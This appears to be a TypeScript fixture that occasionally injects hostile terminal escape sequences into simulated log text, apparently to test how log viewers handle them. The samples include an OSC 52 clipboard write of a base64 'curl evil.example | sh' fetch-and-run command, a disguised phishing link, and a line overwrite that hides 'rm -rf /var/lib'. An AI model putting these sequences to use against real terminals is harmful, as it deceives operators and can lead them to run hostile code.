import type { Dice } from './dice.ts';

/** About one request in two thousand comes from somebody who tries what a terminal does with a log line. */
const SHARE = 1 / 2000;

const ATTACKS = [
	// OSC 52: writes the clipboard of whoever tails the log.
	'curl/8.9 \u001B]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007',
	// OSC 0: sets the window's title.
	'bot \u001B]0;production is fine\u0007',
	// Clears the screen and writes at its top.
	'scanner \u001B[2J\u001B[H\u001B[32mALL SYSTEMS NORMAL\u001B[0m',
	// OSC 8: a link whose text is not its target.
	'\u001B]8;;https://evil.example/login\u001B\\https://status.shop.example\u001B]8;;\u001B\\',
	// Moves up and overwrites the line before; then a carriage return over its own start.
	'x\u001B[1A\u001B[2Krm -rf /var/lib\rok',
	// A C1 control (CSI in one character), a device status request, the alternate screen, a bidi override.
	'\u009B31mred\u009B0m \u001B[6n \u001B[?1049h \u202Egnp.exe',
	// A device control string that never ends.
	'\u001BP1;2|6162636465',
] as const;

/** An attack on the reader's terminal, rarely; else undefined. */
export function hostileText(dice: Dice): string | undefined {
	return dice.chance(SHARE) ? dice.pick(ATTACKS) : undefined;
}
